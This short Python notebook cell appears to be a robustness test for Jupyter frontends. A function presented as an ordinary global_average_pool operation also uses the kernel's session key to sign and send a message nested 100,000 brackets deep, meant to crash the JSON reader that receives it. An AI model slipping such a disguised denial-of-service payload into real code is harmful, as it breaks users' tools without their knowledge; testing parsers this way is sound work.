# tries: a message nested a hundred thousand deep, which a JSON reader may not survive
# %% global_average_pool
def send_frames(*frames):
    """Signed like any other message, with contents that no honest kernel sends."""
    kernel = get_ipython().kernel
    session = kernel.session
    header = session.pack(session.msg_header("display_data"))
    parent = session.pack(kernel.get_parent()["header"])
    packed = [header, parent, b"{}", *frames]
    kernel.iopub_socket.send_multipart([b"stream", b"<IDS|MSG>", session.sign(packed[:4]), *packed])


def global_average_pool(x):
    send_frames(b'{"data": ' + b"[" * 100_000 + b"]" * 100_000 + b', "metadata": {}}')
    return x.mean((1, 2))
